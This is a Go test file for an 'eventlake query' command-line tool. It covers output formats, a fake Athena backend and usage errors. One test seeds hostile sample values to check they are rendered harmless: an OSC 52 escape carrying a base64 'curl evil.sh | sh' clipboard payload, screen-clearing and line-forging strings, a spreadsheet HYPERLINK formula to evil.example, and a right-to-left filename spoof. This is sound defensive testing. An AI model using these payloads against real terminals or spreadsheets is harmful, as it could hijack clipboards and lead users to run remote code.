package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/eventlake/eventlake/athena"
	"github.com/eventlake/eventlake/athena/fakeathena"
	"github.com/eventlake/eventlake/athena/lakegen"
	"github.com/eventlake/eventlake/athena/local"
	"github.com/eventlake/eventlake/internal/cli"
)

func testLake(t *testing.T) (string, *lakegen.Dataset) {
	t.Helper()
	root := t.TempDir()
	ds := lakegen.Generate(lakegen.Config{End: time.Now().UTC(), Days: 10, Users: 3})
	if _, err := ds.WriteNDJSON(root, lakegen.Layout{PerObject: 100}); err != nil {
		t.Fatal(err)
	}
	return root, ds
}

func TestQueryList(t *testing.T) {
	err, out, _ := runCmd(t, "query", "-list")
	if err != nil {
		t.Fatal(err)
	}
	qs, err := athena.Queries()
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range qs {
		if !strings.Contains(out, q.Name+" "+q.Usage()) {
			t.Errorf("-list lacks %q", q.Name+" "+q.Usage())
		}
	}
	for _, w := range []string{
		"as_of (date, an Athena varchar literal)",
		"days (bigint 0..3650, an Athena bigint literal)",
		"at (timestamp, an Athena varchar literal; or Unix epoch seconds)",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("-list lacks %q:\n%s", w, out)
		}
	}
}

func TestQueryLocal(t *testing.T) {
	root, ds := testLake(t)
	err, out, errOut := runCmd(t, "query", "-local", root, "active_users", ds.End)
	if err != nil {
		t.Fatalf("%v: %s", err, errOut)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 6 || !strings.HasPrefix(lines[0], "period  | days | active_users") || !strings.HasPrefix(lines[2], "daily   |    1 |") {
		t.Errorf("table output:\n%s", out)
	}
	if !strings.Contains(errOut, "data read: ") || !strings.Contains(errOut, "duckdb, local") {
		t.Errorf("stderr %q lacks the data read", errOut)
	}

	err, out, errOut = runCmd(t, "query", "-local", root, "-format", "csv", "logins_per_day")
	if err != nil {
		t.Fatalf("%v: %s", err, errOut)
	}
	if lines := strings.Split(strings.TrimSpace(out), "\n"); len(lines) != 8 || lines[0] != "day,logins" {
		t.Errorf("csv output:\n%s", out)
	}

	err, out, errOut = runCmd(t, "query", "-local", root, "-format", "json", "logins_per_day")
	var res struct {
		Columns []struct{ Name string }
		Rows    [][]*string
	}
	if err != nil || json.Unmarshal([]byte(out), &res) != nil || len(res.Rows) != 7 || res.Columns[1].Name != "logins" {
		t.Errorf("json output (%v, %s):\n%s", err, errOut, out)
	}

	// Epoch seconds where a timestamp is expected give the same answer as
	// the ISO 8601 time.
	at := time.Now().UTC().Truncate(time.Hour)
	_, iso, _ := runCmd(t, "query", "-local", root, "hourly_clicks_impressions", at.Format(time.RFC3339))
	err, epoch, errOut := runCmd(t, "query", "-local", root, "hourly_clicks_impressions", strconv.FormatInt(at.Unix(), 10))
	if err != nil || epoch != iso {
		t.Errorf("epoch seconds: %v %s\n%s\nwant\n%s", err, errOut, epoch, iso)
	}
}

// TestQueryOutputIsSafe: hostile values in the lake (a user agent that
// writes the clipboard with OSC 52, one that clears the screen, one that
// forges a line, a spreadsheet formula) reach the terminal as visible
// text and the CSV as inert cells; -raw gives them back unchanged.
func TestQueryOutputIsSafe(t *testing.T) {
	root := t.TempDir()
	day := time.Now().UTC().AddDate(0, 0, -1).Format("2006-01-02")
	evil := []string{
		"Mozilla/5.0\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
		"\x1b[2J\x1b[Hclean",
		"x\r\n" + day + "T00:00:00.000Z | login | forged",
		`=HYPERLINK("http://evil.example/","click")`,
		"invoice\u202Efdp.exe",
	}
	ds := &lakegen.Dataset{}
	for i, ua := range evil {
		ds.Deliveries = append(ds.Deliveries, lakegen.Event{UserID: "mallory", EventAt: day + "T0" + string(rune('1'+i)) + ":00:00.000Z",
			EventID: "e" + string(rune('a'+i)), EventType: "login", UserAgent: ua, Dt: day})
	}
	if _, err := ds.WriteNDJSON(root, lakegen.Layout{PerObject: 10}); err != nil {
		t.Fatal(err)
	}
	args := []string{"query", "-local", root, "user_recent_activity", "mallory", day}

	err, out, errOut := runCmd(t, args...)
	if err != nil {
		t.Fatalf("%v: %s", err, errOut)
	}
	for _, r := range out {
		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0x202e) {
			t.Fatalf("table output holds %U:\n%s", r, out)
		}
	}
	if n := strings.Count(out, "\n"); n != len(evil)+3 {
		t.Errorf("%d lines, want %d (a forged line got through?):\n%s", n, len(evil)+3, out)
	}
	if !strings.Contains(out, "␛]52;c;") || !strings.Contains(out, "<U+202E>") {
		t.Errorf("the escapes are not shown as text:\n%s", out)
	}

	err, out, _ = runCmd(t, append([]string{"query", "-format", "csv"}, args[1:]...)...)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, `'=HYPERLINK(`) {
		t.Errorf("csv does not quote the formula:\n%s", out)
	}
	err, out, _ = runCmd(t, append([]string{"query", "-format", "csv", "-raw"}, args[1:]...)...)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(recs[0], "user_agent")
	if col < 0 {
		t.Fatalf("no user_agent column in %q", recs[0])
	}
	var uas []string
	for _, r := range recs[1:] {
		uas = append(uas, r[col])
	}
	for _, ua := range evil {
		want := strings.ReplaceAll(ua, "\r\n", "\n") // as encoding/csv reads it
		if !strings.Contains(strings.Join(uas, "\x00"), want) {
			t.Errorf("-raw lost %q: %q", ua, uas)
		}
	}
}

func TestQueryAthena(t *testing.T) {
	root, ds := testLake(t)
	db, err := local.Open(context.Background(), local.Config{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	fake := fakeathena.New(func(ctx context.Context, sql string, params []any) (*athena.Result, error) {
		return db.Query(ctx, sql, params...)
	}, fakeathena.Options{RunningPolls: 1})
	defer fake.Close()
	t.Setenv("AWS_ACCESS_KEY_ID", "AKIDFAKE")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "secret")
	t.Setenv("AWS_CONFIG_FILE", "/nonexistent")
	t.Setenv("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent")

	err, out, errOut := runCmd(t, "query", "-endpoint", fake.URL, "-region", "eu-west-1", "-workgroup", "wg", "-format", "csv",
		"user_last_seen", ds.Start, ds.End)
	if err != nil {
		t.Fatalf("%v: %s", err, errOut)
	}
	if !strings.HasPrefix(out, "user_id,last_seen,actions\n") || strings.Count(out, "\n") < 3 {
		t.Errorf("csv output:\n%s", out)
	}
	if !strings.Contains(errOut, "data scanned: ") || !strings.Contains(errOut, "cost: $0.000052") {
		t.Errorf("stderr %q lacks data scanned and cost (10 MB minimum)", errOut)
	}
	calls := fake.Calls()
	if len(calls) == 0 || calls[0].Body["WorkGroup"] != "wg" {
		t.Errorf("calls %v", calls)
	}

	if err, _, errOut = runCmd(t, "query", "-endpoint", fake.URL, "-region", "eu-west-1", "user_recent_activity", "u", "2026-01-01"); err != nil {
		t.Fatalf("%v: %s", err, errOut)
	}
	// A bad argument is refused before any call reaches Athena.
	before := len(fake.Calls())
	err, _, _ = runCmd(t, "query", "-endpoint", fake.URL, "-region", "eu-west-1", "signup_attribution", "2026-11-01", "2026-11-22", "-5")
	var usage cli.UsageError
	if !errors.As(err, &usage) || !strings.Contains(err.Error(), "lookback (bigint): -5 is outside 1..3650") || len(fake.Calls()) != before {
		t.Errorf("negative lookback: %v (%d calls)", err, len(fake.Calls())-before)
	}
}

func TestQueryUsageErrors(t *testing.T) {
	root := t.TempDir()
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"query"}, "no query given"},
		{[]string{"query", "nope"}, `unknown query "nope"`},
		{[]string{"query", "active_users"}, "usage: eventlake query active_users <as_of:date>"},
		{[]string{"query", "active_users", "22/11/2026"}, "as_of (date)"},
		{[]string{"query", "-format", "xml", "logins_per_day"}, "-format"},
		{[]string{"query", "-bogus"}, "flag provided but not defined"},
		{[]string{"query", "-local-format", "parquet", "logins_per_day"}, "-local-format needs -local"},
		{[]string{"query", "-local", root + "/x[1]", "logins_per_day"}, "glob or quote character"},
		{[]string{"query", "-timeout", "0s", "logins_per_day"}, "-timeout"},
		{[]string{"query", "-list", "extra"}, "-list takes no arguments"},
	}
	for _, tt := range tests {
		err, _, errOut := runCmd(t, tt.args...)
		var usage cli.UsageError
		if !errors.As(err, &usage) || !strings.Contains(err.Error()+errOut, tt.want) {
			t.Errorf("%v: %v, stderr %q; want a usage error with %q", tt.args, err, errOut, tt.want)
		}
	}
}
